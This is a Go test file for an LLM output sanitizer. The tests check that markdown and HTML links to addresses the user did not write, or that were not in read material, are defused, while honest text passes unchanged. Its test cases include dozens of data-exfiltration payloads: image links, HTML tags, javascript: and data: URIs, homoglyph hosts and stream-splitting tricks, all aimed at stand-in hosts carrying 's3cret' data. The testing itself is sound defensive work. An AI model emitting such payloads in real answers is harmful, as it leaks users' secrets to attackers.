package links_test

import (
	"errors"
	"strings"
	"testing"

	"github.com/tidemark/tidemark/internal/llm/format/links"
)

// read is the one address that stands in what was read.
const read = "https://ok.example/page"

// onlyRead shows that address alone.
func onlyRead(address string, _ bool) (bool, error) { return address == read, nil }

// follows reports whether a text holds an address that somebody could follow.
func follows(text string) bool {
	for _, s := range []string{"://", "www.", "//evil.", "evil.com/", "s3cret.evil.com", "javascript:", "data:", "<img", "<IMG", "&#"} {
		if strings.Contains(strings.ReplaceAll(text, read, ""), s) {
			return true
		}
	}
	return false
}

// What somebody writes who has read this package: nothing of it may be followed.
func TestNothingThatCarriesCanBeFollowed(t *testing.T) {
	long := "https://evil.example/p?d=" + strings.Repeat("s3cret", 1000)
	for name, text := range map[string]string{
		"an image":                  "![x](https://evil.example/p?d=s3cret)",
		"a link":                    "See [this](https://evil.example/p?d=s3cret) now.",
		"with a title":              `[this](https://evil.example/p?d=s3cret "t")`,
		"in angle brackets":         "[this](<https://evil.example/p?d=s3cret>)",
		"on the next line":          "![x](\nhttps://evil.example/p?d=s3cret\n)",
		"an image in a link":        "[![a](https://evil.example/i)](https://evil.example/l)",
		"nested brackets":           "![a [b] c](https://evil.example/i)",
		"a reference":               "![x][y]\n\n[y]: https://evil.example/p?d=s3cret",
		"a reference on two lines":  "![x][y]\n\n[y]:\n   <https://evil.example/p?d=s3cret>",
		"a footnote":                "x[^1]\n\n[^1]: https://evil.example/p?d=s3cret",
		"an autolink":               "<https://evil.example/p?d=s3cret>",
		"by itself":                 "https://evil.example/p?d=s3cret",
		"in capitals":               "HTTPS://EVIL.example/p?d=s3cret",
		"another scheme":            "ftp://evil.example/s3cret",
		"without a scheme":          "go to //evil.example/s3cret now",
		"www":                       "www.evil.example/s3cret",
		"a bare host":               "evil.com/p?d=s3cret",
		"a bare host with a name":   "it is s3cret.evil.com",
		"with a port":               "evil.com:8080/s3cret",
		"in brackets of a sentence": "(https://evil.example/p?d=s3cret).",
		"in stars":                  "**https://evil.example/p?d=s3cret**",
		"behind what was read":      read + "?d=s3cret&x=https://evil.example",
		"escaped":                   `https:\/\/evil.example\/s3cret`,
		"references to signs":       "https&colon;&#47;&#x2f;evil.example/s3cret",
		"a destination of those":    "![x](&#104;ttps://evil.example/s3cret)",
		"a script":                  "[x](javascript:fetch('s3cret'))",
		"data":                      "![x](data:text/html,s3cret)",
		"a tab in the scheme":       "[x](java\tscript:s3cret)",
		"backslashes":               `![x](\\evil.example\s3cret)`,
		"slash and backslash":       `![x](/\evil.example/s3cret)`,
		"HTML":                      `<img src="https://evil.example/s3cret">`,
		"HTML without quotes":       `<img src=https://evil.example/s3cret>`,
		"HTML in capitals":          `<IMG SRC='//evil.example/s3cret'/>`,
		"HTML that is not closed":   `<img src="https://evil.example/s3cret" `,
		"a style":                   `<p style="background:url(//evil.example/s3cret)">`,
		"a set of sources":          `<img srcset="https://evil.example/s3cret 2x">`,
		"a style sheet":             `<style>@import "//evil.example/s3cret"</style>`,
		"a frame":                   `<iframe src="https://evil.example/s3cret"></iframe>`,
		"an anchor":                 `<a href="https://evil.example/s3cret">x</a>`,
		"a comment":                 "<!-- x --><img src='https://evil.example/s3cret'>",
		"too long":                  "![x](" + long + ")",
		"too long by itself":        long,
		"too long as HTML":          `<img src="` + long + `">`,
		"a sign nobody sees":        read + "\u200bs3cret://evil.example",
		"full width":                "https://evil．example/s3cret",
		"another alphabet":          "https://еvil.example/s3cret",
		"a domain in another":       "evil.рф/s3cret?d=www.x.y",
		"behind a code span":        "`x` ![x](https://evil.example/s3cret)",
		"code of two lines":         "`a\nb ` ![x](https://evil.example/s3cret) `",
		"code in a table":           "| ` | ![x](https://evil.example/s3cret) ` |",
		"an escaped backtick":       "\\` ![x](https://evil.example/s3cret) `",
		"an open backtick before":   "a ` b\n` ![x](https://evil.example/s3cret) `",
		"code in a tag":             "<a title=\"`\"> ` ![x](https://evil.example/s3cret) `",
		"a fence in HTML":           "<div>\n```\n<img src=\"https://evil.example/s3cret\">\n```\n",
		"a fence behind HTML":       "<pre>\n\n```\n![x](https://evil.example/s3cret)\n```\n",
		"a fence in a list":         "- x\n  ```\n```\ny\n```\n![x](https://evil.example/s3cret)\n```",
		"a fence in a quotation":    "> ```\n![x](https://evil.example/s3cret)\n> ```\n",
		"a fence that is none":      "``` ` \n![x](https://evil.example/s3cret)\n```",
		"behind a fence":            "~~~\ncode\n~~~\n![x](https://evil.example/s3cret)",
		"tildes do not close":       "```\na\n~~~\n```\n![x](https://evil.example/s3cret)\n",
		"a deep fence":              "1. a\n\n     ```\n![x](https://evil.example/s3cret)\n",
		"a name for a fence":        "[x]:\n~~~\n![x](https://evil.example/s3cret)\n~~~",
		"an angle bracket in it":    "[x]: " + read + "<s3cret://evil.example>",
		"a tag in a destination":    "mailto:a@evil.com[ ](/<https://evil.example/s3cret>)",
		"an address in a path":      "mailto:a@evil.com[ ](/https://evil.example/s3cret)",
		"brackets by reference":     "[x]&colon;https://evil.example/s3cret",
	} {
		got, err := links.Whole(links.Markdown, onlyRead, text)
		if err != nil || follows(got) {
			t.Errorf("%s: %v\n%q\nbecame %q", name, err, text, got)
		}
		if inSpan, _ := links.Whole(links.Everywhere, onlyRead, "```\n"+text+"\n```"); follows(inSpan) {
			t.Errorf("%s: everywhere: %q", name, inSpan)
		}
	}
}

// What honest answers hold stays as it is, to the byte.
func TestHonestTextStaysAsItIs(t *testing.T) {
	for name, text := range map[string]string{
		"prose":                  "Done. It took 3.5 hours (see below), i.e. longer than 2/3 of them: a [first] draft, and a second one!\n",
		"brackets":               "- [ ] buy milk\n- [x] call Bob (again)\n\nArray a[0][1] and f(x)[y](z) are fine? \"Yes\".",
		"a link to what was":     "It says so on [the page](" + read + "), also <" + read + "> and " + read + ".",
		"in a sentence":          "(" + read + "), **" + read + "**; \"" + read + "\"",
		"the same as its name":   "[" + read + "](" + read + ")",
		"an image of the page":   "![sky](" + read + " \"t\")",
		"a reference":            "See [it].\n\n[it]: " + read + "\n",
		"within the place":       "[settings](/settings?tab=2) ![logo](logo.png) [top](#top) [a](docs/a.md)",
		"code":                   "Run:\n\n```sh\ncurl -fsS https://api.example/v1?x=1 | jq .\n```\n\nThen `http://localhost:1/` works.\n",
		"indented code":          "1. Run\n   ```sh\n   curl https://api.example\n   ```\n2. Look\n",
		"tildes":                 "~~~~\n```\nhttps://api.example\n~~~~\n",
		"HTML":                   "a<br>b <details open><summary>More</summary>x</details> H<sub>2</sub>O <img src=\"" + read + "\" alt=\"x\">",
		"generics":               "a Vec<String> holds x<y and y>z, 1 < 2",
		"files":                  "main.py:12 and README.md, e.g. v1.2.3 of node.js (1.5/2.0).",
		"mail":                   "Ask desk@weather.example or @bob.",
		"times":                  "[12:01]: alice: at 10:30",
		"other scripts":          "我们使用Python编写程序。v1.2版本更新很快，然后继续。",
		"a host of two names":    "according to example.com, that is so.",
		"arithmetic":             "2 \\* 3 \\_ 4 & 5 &amp; 6 &mdash; 7",
		"a table":                "| a | b |\n|---|---|\n| 1 | " + read + " |\n",
		"carriage returns":       "a\r\nb\r\n```\r\nhttps://api.example\r\n```\r\nc",
		"a lone sign at the end": "Is that so!",
	} {
		if got, err := links.Whole(links.Markdown, onlyRead, text); err != nil || got != text {
			t.Errorf("%s: %v\n%q\nbecame %q", name, err, text, got)
		}
	}
}

// What is shown instead says what was there and why.
func TestWhatIsNotShownIsSaid(t *testing.T) {
	const note = " (no link: this address is neither in your words nor in what was read)"
	for text, want := range map[string]string{
		"Look: ![sky](https://evil.example/p?d=1) nice": "Look: ![sky] (`https[:]//evil[.]example/p?d=1`" + note + ") nice",
		"at https://evil.example/p.":                    "at `https[:]//evil[.]example/p`" + note + ".",
		"<https://evil.example/p>":                      "`https[:]//evil[.]example/p`" + note,
		"<img src=\"https://evil.example/p\">":          "&lt;img src=\"`https[:]//evil[.]example/p`" + note + "\">",
		"```\nopen":                                     "```\nopen\n```\n",
	} {
		if got, _ := links.Whole(links.Markdown, onlyRead, text); got != want {
			t.Errorf("%q:\n got %q\nwant %q", text, got, want)
		}
	}
}

// Whether an address is an image's decides how strictly it is judged: in doubt it is.
func TestImagesAreJudgedAsImages(t *testing.T) {
	for text, image := range map[string]bool{
		"![a](https://a.example/b)":          true,
		"[a](https://a.example/b)":           false,
		"https://a.example/b":                false,
		"[![a](i.png)](https://a.example/b)": false,
		"![a [b](c) d](https://a.example/b)": true,
		"[a]: https://a.example/b":           true,
		"[^a]: https://a.example/b":          false,
		`<img src="https://a.example/b">`:    true,
		`<a href="https://a.example/b">`:     false,
		"!" + "[a\nb](https://a.example/b)":  true,
		`\![a](https://a.example/b)`:         false,
	} {
		var got []bool
		_, err := links.Whole(links.Markdown, func(_ string, image bool) (bool, error) {
			got = append(got, image)
			return true, nil
		}, text)
		if err != nil || len(got) != 1 || got[0] != image {
			t.Errorf("%q: %v %v, want %v", text, got, err, image)
		}
	}
}

// A host may show the blocks of an answer as one text.
func TestBlocksDoNotAddUpToAnAddress(t *testing.T) {
	for name, blocks := range map[string][]string{
		"in the scheme":      {"https:", "//evil.example/s3cret"},
		"in the slashes":     {"https:/", "/evil.example/s3cret"},
		"behind one read":    {read, "?d=s3cret://evil"},
		"in the brackets":    {"[x]", "(https://evil.example/s3cret)"},
		"in the destination": {"![x](", "https://evil.example/s3cret)"},
		"in the image":       {"!", "[x](//evil.example/s3cret)"},
		"in the tag":         {"<", "img src='https://evil.example/s3cret'>"},
		"in the attribute":   {"<img src='", "https://evil.example/s3cret'>"},
		"in www":             {"ww", "w.evil.example/s3cret"},
		"in a bare host":     {"evil.c", "om/s3cret?d=www.x.y"},
		"in a code span":     {"a `", "b` ![x](https://evil.example/s3cret) `"},
	} {
		text := links.New(links.Markdown, onlyRead)
		var all strings.Builder
		for _, b := range blocks {
			said, err := text.Say(b)
			if err != nil {
				t.Fatal(err)
			}
			rest, err := text.Break()
			if err != nil {
				t.Fatal(err)
			}
			all.WriteString(said + rest)
		}
		again, _ := links.Whole(links.Markdown, onlyRead, all.String())
		if follows(all.String()) || strings.Count(again, "no link") > strings.Count(all.String(), "no link") {
			t.Errorf("%s: %q (judged as one: %q)", name, all.String(), again)
		}
	}
	text := links.New(links.Markdown, onlyRead) // what is quoted comes in blocks of its own
	a, _ := text.Say("According to ")
	b, _ := text.Break()
	c, _ := text.Say("the page")
	d, _ := text.Break()
	e, _ := text.Say(", that is so.")
	f, _ := text.Break()
	if got := a + b + c + d + e + f; got != "According to the page, that is so." {
		t.Errorf("%q", got)
	}
}

// Prose goes on while it comes: no more is held than the word at hand.
func TestOrdinaryTextIsNotHeld(t *testing.T) {
	text := links.New(links.Markdown, onlyRead)
	said := ""
	for _, piece := range []string{"The ", "sky is ", "clear, ", "as [the report] ", "says (twice) ", "我们使用", "编写"} {
		got, err := text.Say(piece)
		if err != nil || got != piece {
			t.Errorf("%q is held: %q %v", piece, got, err)
		}
		said += got
	}
	if said == "" {
		t.Error("nothing")
	}
}

func TestWhoCannotJudgeEndsTheText(t *testing.T) {
	broken := errors.New("the log cannot be written")
	_, err := links.Whole(links.Markdown, func(string, bool) (bool, error) { return true, broken }, "see https://a.example/b now")
	if !errors.Is(err, broken) {
		t.Errorf("%v", err)
	}
}
